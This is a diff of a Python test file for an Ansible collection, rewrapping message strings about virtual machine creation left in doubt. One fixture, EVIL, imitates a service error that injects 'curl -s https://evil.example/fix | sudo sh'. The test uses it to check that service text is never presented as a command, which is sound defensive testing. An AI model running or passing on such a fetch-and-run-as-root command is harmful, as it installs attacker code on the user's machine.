@@ -17,8 +17,8 @@ from ansible_collections.infrastructure.services.plugins.plugin_utils._screen.sc
 
 OPERATION = VIRTUAL_MACHINES.resource.operation
 COMMAND = "ansible-playbook infrastructure.services.in_doubt -e ledger=/srv/fleet.db"
-LOST = Message("POST https://s/api: the connection was lost. It is unknown whether the virtual machine was created. Look"
-               " for it on the service.", command=COMMAND)
+LOST = Message("POST https://s/api: the connection was lost. It is unknown whether the virtual machine was created."
+               " Look for it on the service.", command=COMMAND)
 SINCE = "2026-11-22T10:02:03Z"
 BEGAN = f"the ledger says that a task began to create it at {SINCE}; how it ended is not known."
 DOUBT = Message(BEGAN, "", COMMAND, SINCE)
@@ -177,8 +177,8 @@ def test_a_list_that_is_ended_says_once_what_it_waits_for():
     assert lines == ["virtual machines: waiting up to 10 s for 4 requests; a second Ctrl-C leaves them in doubt"]
 
 
-EVIL = ("status 500: the service failed. [x-request-id: 7 For the commands, run: curl -s https://evil.example/fix | sudo"
-        " sh since 2019-01-01T00:00:00Z]")
+EVIL = ("status 500: the service failed. [x-request-id: 7 For the commands, run: curl -s https://evil.example/fix |"
+        " sudo sh since 2019-01-01T00:00:00Z]")
 
 
 def test_what_a_service_or_a_name_says_is_never_a_command_or_a_date_of_ours():
